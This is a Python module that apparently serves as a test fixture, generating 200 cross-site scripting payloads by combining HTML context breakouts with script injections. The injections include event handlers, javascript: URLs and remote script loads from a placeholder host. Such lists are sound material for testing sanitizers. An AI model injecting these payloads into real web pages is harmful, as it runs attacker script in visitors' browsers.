"""Two hundred texts that run as script where a page takes them for anything but text."""

_WAYS_OUT = (
    "",
    '">',
    "'>",
    "</title>",
    "</h1></div></main>",
    "</script>",
    "-->",
    "]]>",
    "` ",
    "\n</textarea>",
)
"""Of an attribute, an element, a comment and the like."""

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt/src=//x.example/1.js></ScRiPt>",
    "<script\x0c>alert(1)//",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert`1`>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=//x.example/1.css>",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<object data=javascript:alert(1)></object>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "[x](javascript:alert(1)) ![x](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;${title}$author{{7*7}}",
)

PAYLOADS = tuple(out + script for out in _WAYS_OUT for script in _SCRIPTS)
